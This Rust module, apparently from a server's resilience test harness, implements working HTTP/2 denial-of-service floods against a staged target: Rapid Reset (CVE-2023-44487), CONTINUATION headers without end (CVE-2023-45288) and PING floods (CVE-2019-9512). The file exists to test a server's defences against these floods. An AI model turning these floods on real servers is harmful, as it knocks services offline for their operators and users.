//! Floods of HTTP/2 frames by callers without credentials.

use std::io::Write;
use std::time::Duration;

use super::{Attack, Target, crowd};
use crate::wire::connect_http2;

pub(super) const ATTACKS: &[Attack] = &[
    Attack { name: "http2-reset", counts: Some("streams"), run: reset },
    Attack { name: "http2-continuation", counts: None, run: continuation },
    Attack { name: "http2-ping", counts: Some("frames"), run: ping },
];

const HEADERS_FRAME: u8 = 1;
const RESET_FRAME: u8 = 3;
const SETTINGS_FRAME: u8 = 4;
const PING_FRAME: u8 = 6;
const CONTINUATION_FRAME: u8 = 9;
/// End of headers and of the stream.
const END: u8 = 0x4 | 0x1;
/// `GET / https://x` in the static table's words.
const HEADERS: &[u8] = &[0x82, 0x87, 0x84, 0x41, 0x01, b'x'];
/// How many are sent at a time.
const PIECE: u32 = 100;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Send what `more` makes on connection after connection, as long as each lasts.
fn flood(target: Target<'_>, more: impl Fn(u32) -> Vec<u8> + Sync) -> anyhow::Result<u64> {
    let port = target.stage.port();
    crowd(4, |_| {
        let mut sent = 0;
        while target.until.goes_on() {
            let Ok(mut stream) = connect_http2(port) else {
                target.until.pause(Duration::from_millis(10));
                continue;
            };
            stream.sock.set_write_timeout(Some(Duration::from_secs(2)))?;
            let mut good = stream.write_all(&frame(SETTINGS_FRAME, 0, 0, &[])).is_ok();
            let mut next = 0;
            while good && target.until.goes_on() {
                let pieces: Vec<u8> = (next..next + PIECE).flat_map(&more).collect();
                good = stream.write_all(&pieces).and_then(|()| stream.flush()).is_ok();
                (next, sent) = (next + PIECE, sent + u64::from(PIECE));
            }
        }
        Ok(sent)
    })
}

/// Streams that are opened and reset at once (CVE-2023-44487).
fn reset(target: Target<'_>) -> anyhow::Result<u64> {
    flood(target, |n| {
        let stream = n * 2 + 1;
        let reset = frame(RESET_FRAME, 0, stream, &8_u32.to_be_bytes());
        [frame(HEADERS_FRAME, END, stream, HEADERS), reset].concat()
    })
}

/// Headers without an end (CVE-2023-45288).
fn continuation(target: Target<'_>) -> anyhow::Result<u64> {
    let block = [0x40, 0x01, b'a', 0x01, b'b'].repeat(200);
    flood(target, |n| frame(if n == 0 { HEADERS_FRAME } else { CONTINUATION_FRAME }, 0, 1, &block))
}

/// Questions without an interest in the answers (CVE-2019-9512): nobody reads here.
fn ping(target: Target<'_>) -> anyhow::Result<u64> {
    flood(target, |_| frame(PING_FRAME, 0, 0, b"12345678"))
}
